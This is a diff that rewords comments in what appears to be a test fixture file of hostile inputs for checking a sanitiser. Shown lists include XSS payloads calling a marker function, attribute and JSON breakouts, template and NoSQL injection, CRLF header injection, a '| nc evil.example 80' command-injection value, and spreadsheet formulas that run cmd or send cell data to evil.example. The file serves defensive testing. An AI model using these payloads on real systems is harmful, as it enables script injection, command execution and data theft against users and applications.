@@ -1,6 +1,6 @@
 /**
- * What hostile suppliers and customers write. Whatever would execute calls `pwned()`, so that a test notices; whatever
- * would load, asks evil.example.
+ * Hostile input by suppliers and customers. Whatever would execute calls `pwned()`, so that a test notices; whatever
+ * would load requests evil.example.
  */
 
 /** Script elements, whole and broken. */
@@ -79,7 +79,7 @@ const handlers = [
   '<p/onmouseover=pwned()/x>x',
 ];
 
-/** Addresses that run or smuggle: schemes behind cases, controls, entities and encodings. */
+/** URLs that run or smuggle: schemes behind letter cases, controls, entities and encodings. */
 const addresses = [
   '<a href="javascript:pwned()">x</a>',
   '<a href="JaVaScRiPt:pwned()">x</a>',
@@ -271,7 +271,7 @@ const comments = [
   '<% foo><x foo="%><script>pwned()</script>">',
 ];
 
-/** Ways out of an attribute. */
+/** Ways to break out of an attribute. */
 const quotes = [
   '" onmouseover="pwned()',
   "' onmouseover='pwned()",
@@ -323,7 +323,7 @@ const encodings = [
   '<\u212aeygen onfocus=pwned() autofocus>',
 ];
 
-/** Directions, and characters that nobody sees. */
+/** Text directions and invisible characters. */
 const invisible = [
   '\u202e\u2066gpj.exe\u2069',
   'invoice\u202efdp.exe',
@@ -337,7 +337,7 @@ const invisible = [
   'Z\u0351\u036b\u0343a\u0321\u035al\u0329\u0345g\u0337o\u0300\u0301\u0302\u0303',
 ];
 
-/** Templates, of the page and of whatever else might be behind it. */
+/** Template syntax, of the page and of whatever might be behind it. */
 const templates = [
   '{{7*7}}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack, not a template
@@ -363,7 +363,7 @@ const templates = [
   '%s%n%x%d',
 ];
 
-/** Ways out of JSON inside a page. */
+/** Ways to break out of JSON inside a page. */
 const json = [
   '</script><img src=x onerror=pwned()>',
   '</ScRiPt ><svg onload=pwned()>',
@@ -403,7 +403,7 @@ const queries = [
   '{"$ne":null}',
 ];
 
-/** Headers, paths, keys of objects, commands. */
+/** Headers, paths, object keys, commands. */
 const places = [
   'x\r\nSet-Cookie: sid=evil',
   'x\r\n\r\n<script>pwned()</script>',
@@ -438,7 +438,7 @@ const places = [
   '| nc evil.example 80',
 ];
 
-/** Formulas for whoever opens an export in a spreadsheet. */
+/** Formulas for someone who opens an export in a spreadsheet. */
 const formulas = [
   '=HYPERLINK("https://evil.example/?"&A1,"Open")',
   "=cmd|'/C calc'!A0",
@@ -450,7 +450,7 @@ const formulas = [
   '",=1+1,"',
 ];
 
-/** Characters outside the basic plane, and halves of them. */
+/** Characters outside the basic plane, and lone surrogates. */
 const astral = [
   '💥🏴‍☠️👨‍👩‍👧‍👦🇪🇺',
   '𝕊𝕒𝕞𝕡𝕒𝕟',
@@ -464,7 +464,7 @@ const astral = [
   '\u{10ffff}',
 ];
 
-/** Long and deep, for whoever counts on neither. */
+/** Very long and very deep. */
 const large = [
   '<div>'.repeat(3000),
   '<b><i><u>'.repeat(1000),
@@ -484,7 +484,7 @@ const large = [
   '"'.repeat(4000),
 ];
 
-/** Words that no line can hold. */
+/** Words that fit on no line. */
 const endless = ['W'.repeat(180), 'Donaudampfschiff'.repeat(11)];
 
 /** By kind, for tests that want only some. */
